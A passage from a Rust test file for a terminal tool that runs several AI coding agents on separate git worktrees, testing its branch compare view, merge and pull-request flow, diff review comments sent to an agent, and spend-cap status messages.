        .find_map(|m| match m {
            ClientMsg::Compare { id, near: Some(_), .. } => Some(id),
            _ => None,
        })
        .expect("asked for the focused pane's tab");
    assert!(draw(&app).contains("reading the worktrees"));
    let row = |pane, place: &str, agent: &str, added| crate::protocol::CompareRow {
        pane,
        place: place.into(),
        agent: agent.into(),
        state: "idle".into(),
        branch: format!("teamster/{agent}-1"),
        spend: 0.5,
        tokens: 1200,
        seconds: 75,
        files: 1,
        added,
        removed: 0,
        error: None,
        check: Some(match agent {
            "claude" => crate::protocol::Check::Passed { seconds: 12 },
            _ => crate::protocol::Check::Failed { code: Some(101), seconds: 30, last: "1 test failed".into() },
        }),
    };
    let rows = vec![row(1, "work:1.1", "claude", 3), row(2, "work:1.2", "codex", 40)];
    app.update(Event::Server(ServerMsg::Reply { id, result: Ok(Reply::Compare { rows }) }));
    let screen = draw_at(&app, 140, ROWS);
    assert!(screen.contains("teamster/codex-1") && screen.contains("+40"), "{screen}");
    assert!(screen.contains("passed 12s") && screen.contains("failed (101)"), "the check's column: {screen}");
    assert!(screen.contains("1.2k") && screen.contains("1m"), "tokens and time: {screen}");
    // By place first (claude's), then agent, state, time, spend, tokens, files, added:
    // codex has added most.
    for _ in 0..7 {
        app.update(key("s"));
    }
    assert!(draw(&app).contains("by added"));
    app.update(key("enter"));
    assert!(app.overlay.is_none());
    let focus: Vec<ClientMsg> = sent(&mut app);
    assert!(
        focus.iter().any(|m| matches!(m, ClientMsg::Command { command: Command::Focus { pane: 2 }, .. })),
        "{focus:?}"
    );
    // Nothing to compare: the view says why.
    app.update(key("ctrl-\\"));
    app.update(key("C"));
    let id = sent(&mut app).into_iter().find_map(|m| match m {
        ClientMsg::Compare { id, .. } => Some(id),
        _ => None,
    });
    app.update(Event::Server(ServerMsg::Reply {
        id: id.expect("asked"),
        result: Err("no pane of this tab has a worktree of its own".into()),
    }));
    assert!(draw(&app).contains("no pane of this tab has a worktree"), "{}", draw(&app));
    assert!(matches!(&app.overlay, Some(Overlay::Compare(c)) if matches!(c.rows, Some(Err(_)))), "the view holds why");
}

/// `m` in the compare view merges the chosen branch (Enter: fast-forward; p: a pull
/// request), then offers to clear the others.
#[test]
fn the_compare_view_merges_the_chosen_branch_and_offers_to_clear_the_others() {
    let mut app = app_with("default");
    app.update(key("ctrl-\\"));
    app.update(key("C"));
    let id = sent(&mut app)
        .into_iter()
        .find_map(|m| match m {
            ClientMsg::Compare { id, .. } => Some(id),
            _ => None,
        })
        .expect("asked");
    let row = |pane: u32, agent: &str| crate::protocol::CompareRow {
        pane,
        place: format!("work:1.{pane}"),
        agent: agent.into(),
        state: "idle".into(),
        branch: format!("teamster/{agent}-1"),
        spend: 0.0,
        tokens: 0,
        seconds: 1,
        files: 1,
        added: 1,
        removed: 0,
        error: None,
        check: None,
    };
    let rows = vec![row(1, "claude"), row(2, "codex")];
    app.update(Event::Server(ServerMsg::Reply { id, result: Ok(Reply::Compare { rows }) }));
    assert!(draw_at(&app, 140, ROWS).contains("m merge"));
    // codex chosen before the rows come again, in another order: it stays chosen.
    app.update(key("j"));
    // Open, it asks for its rows again when due (a check finishing shows without a key).
    let Some(Overlay::Compare(view)) = &app.overlay else { panic!("no compare view") };
    let due = view.next_refresh.expect("a refresh is due later");
    assert!(app.next_tick().is_some_and(|t| t <= due));
    if let Some(Overlay::Compare(view)) = &mut app.overlay {
        view.next_refresh = Some(std::time::Instant::now());
    }
    app.update(Event::Tick);
    let again = sent(&mut app)
        .into_iter()
        .find_map(|m| match m {
            ClientMsg::Compare { id, near: Some(_), .. } => Some(id),
            _ => None,
        })
        .expect("asked again, for the same tab");
    let mut rows = vec![row(1, "claude"), row(2, "codex")];
    rows[1].check = Some(crate::protocol::Check::Passed { seconds: 3 });
    rows[1].place = "work:1.0".into();
    app.update(Event::Server(ServerMsg::Reply { id: again, result: Ok(Reply::Compare { rows }) }));
    assert!(draw_at(&app, 140, ROWS).contains("passed 3s"));
    app.update(key("m"));
    let status = draw(&app).lines().last().expect("status").to_string();
    assert!(status.contains("merge teamster/codex-1 into its base?"), "{status}");
    assert!(sent(&mut app).is_empty(), "nothing merged before the answer");
    app.update(key("p"));
    let msgs = sent(&mut app);
    let [ClientMsg::Merge { id, target, how: crate::protocol::MergeHow::PullRequest, close_others: false, .. }] =
        msgs.as_slice()
    else {
        panic!("{msgs:?}")
    };
    assert_eq!(target, "2");
    let text = "pushed teamster/codex-1 to origin and opened a pull request against main: https://example/pr/1";
    app.update(Event::Server(ServerMsg::Reply { id: *id, result: Ok(Reply::Text { text: text.into() }) }));
    let status = draw(&app).lines().last().expect("status").to_string();
    assert!(status.contains("close the tab's other worktree panes"), "{status}");
    app.update(key("enter"));
    let msgs = sent(&mut app);
    assert!(matches!(msgs.as_slice(), [ClientMsg::CloseOthers { target, .. }] if target == "2"), "{msgs:?}");
}

/// The review (prefix D, or `d` in the compare view): the pane's diff against its base,
/// coloured and scrollable; a comment is about the line at the top, by file and line;
/// `S` sends every comment to that pane's agent as one prompt.
#[test]
fn a_review_comments_on_lines_and_sends_the_comments_to_the_agent() {
    let mut app = app_with("default");
    app.update(key("ctrl-\\"));
    app.update(key("D"));
    let id = sent(&mut app)
        .into_iter()
        .find_map(|m| match m {
            ClientMsg::Diff { id, target } if target == "1" => Some(id),
            _ => None,
        })
        .expect("asked for the focused pane's diff");
    let diff = "diff --git a/src/lib.rs b/src/lib.rs\n--- a/src/lib.rs\n+++ b/src/lib.rs\n@@ -10,3 +10,4 @@\n fn a() {}\n-fn b() {}\n+fn b() -> u8 { 1 }\n+fn c() {}\ndiff --git a/notes.md b/notes.md\nnew file\n--- /dev/null\n+++ b/notes.md\n@@ -0,0 +1,1 @@\n+hello";
    app.update(Event::Server(ServerMsg::Reply { id, result: Ok(Reply::Text { text: diff.into() }) }));
    let screen = draw_at(&app, 100, 20);
    assert!(screen.contains("+fn b() -> u8 { 1 }") && screen.contains("review pane 1"), "{screen}");
    let Some(Overlay::Review(view)) = &app.overlay else { panic!("no review") };
    // The added `fn c` is line 12 of the new file; the new file's line is 1.
    assert_eq!(view.place_of(7), Some(("src/lib.rs".into(), 12)));
    assert_eq!(view.place_of(13), Some(("notes.md".into(), 1)));
    // A file's header lines are about that file.
    assert_eq!(view.place_of(0), Some(("src/lib.rs".into(), 1)));
    assert_eq!(view.place_of(9), Some(("notes.md".into(), 1)));
    // Down to `+fn c() {}`, a comment; then the next file, another.
    for _ in 0..7 {
        app.update(key("j"));
    }
    for k in ["c", "s", "a", "y", " ", "w", "h", "y", "enter"] {
        app.update(key(k));
    }
    app.update(key("n"));
    for _ in 0..4 {
        app.update(key("j"));
    }
    for k in ["c", "o", "k", "enter"] {
        app.update(key(k));
    }
    assert!(draw_at(&app, 100, 20).contains("2 comments: S sends them"));
    app.update(key("S"));
    assert!(app.overlay.is_none());
    let sends: Vec<(String, String)> = sent(&mut app)
        .into_iter()
        .filter_map(|m| match m {
            ClientMsg::Send { target, text, enter: true, .. } => Some((target, text)),
            _ => None,
        })
        .collect();
    assert_eq!(
        sends,
        vec![(
            "1".to_string(),
            "Address these review comments on your branch: - src/lib.rs:12: say why - notes.md:1: ok".to_string()
        )]
    );
}

#[test]
fn a_comment_goes_on_the_selected_pending_action_or_the_focused_pane() {
    use crate::protocol::CommentOn;
    let comments = |app: &mut App| -> Vec<(CommentOn, String)> {
        sent(app)
            .into_iter()
            .filter_map(|m| match m {
                ClientMsg::Comment { on, text, .. } => Some((on, text)),
                _ => None,
            })
            .collect()
    };
    let mut app = app();
    app.update(Event::Resize(Size { cols: 120, rows: 20 }));
    app.effects.clear();
    let type_in = |app: &mut App, text: &str| {
        for c in text.chars() {
            app.update(key(&c.to_string()));
        }
    };
    // On the focused pane, from the prefix.
    app.update(key("alt-M"));
    assert!(draw_at(&app, 120, 20).contains("comment on pane"), "{}", draw_at(&app, 120, 20));
    type_in(&mut app, "looks right");
    app.update(key("enter"));
    let focused = app.focused().expect("a focused pane");
    assert_eq!(comments(&mut app), vec![(CommentOn::Pane { pane: focused, line: None }, "looks right".to_string())]);
    // On the action selected in the sidebar.
    let pending = vec![waiting(7, 3, "git push origin main", "tool_call")];
    app.update(Event::Server(ServerMsg::Pending { pending }));
    app.update(key("alt-s"));
    app.update(key("c"));
    type_in(&mut app, "not to main");
    app.update(key("enter"));
    assert_eq!(comments(&mut app), vec![(CommentOn::Action { action: 7 }, "not to main".to_string())]);
    // Nothing to say: nothing sent.
    app.update(key("c"));
    app.update(key("enter"));
    assert!(comments(&mut app).is_empty());
}

#[test]
fn the_status_bar_names_the_cap_that_stopped_the_agents_and_how_to_get_past_it() {
    use crate::protocol::{CapView, GateKind};
    let at_cap = |gate: GateKind| {
        let mut app = app();
        let mut s = session();
        s.cap_hit = Some(CapView { rule: Some("session cap".into()), reason: "spent its cent".into(), gate });
        app.update(Event::Server(ServerMsg::Session { session: Box::new(s) }));
        app
    };
    let status = |app: &App, cols: u16| draw_at(app, cols, 20).lines().last().unwrap_or_default().to_string();
    let app = at_cap(GateKind::Refuses);
    let line = status(&app, 160);
    assert!(line.contains("\"session cap\" stopped the agents: raise it in your config"), "{line}");
    // A message beside it leaves no room for the whole: the cap is still named.
    let mut app = at_cap(GateKind::Refuses);
    app.say("fake in work:1.2 is stopped by a spend cap, and this message is long");
    let line = status(&app, 130);
    assert!(line.contains("⛔ cap \"session cap\" hit"), "{line}");
    // A gate that asks is got past by approving the next step, not by the config.
    let line = status(&at_cap(GateKind::Asks), 160);
    assert!(line.contains("\"session cap\" stopped the agents: approve the next step"), "{line}");
    assert!(!line.contains("config"), "{line}");
}
